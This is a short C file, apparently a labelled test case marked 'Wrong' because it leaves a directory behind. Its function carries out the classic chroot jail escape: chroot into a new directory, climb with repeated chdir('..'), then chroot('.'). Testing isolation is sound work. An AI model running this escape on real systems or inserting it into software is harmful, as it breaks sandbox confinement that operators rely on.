/*
 * Wrong: makes a directory, and leaves it there
 * Rejected-by: nothing is left behind: no directory, no open descriptor
 * Shows: a directory that you made is still there
 */
#include <errno.h>
#include <sys/stat.h>
#include <unistd.h>

#include "escape.h"

int
chroot_escape(void)
{
	int i;

	if (mkdir("tmp/way-out", 0755) == -1 && errno != EEXIST)
		return -1;
	if (chroot("tmp/way-out") == -1)
		return -1;
	for (i = 0; i < 5000; i++)
		if (chdir("..") == -1)
			return -1;
	return chroot(".");
}
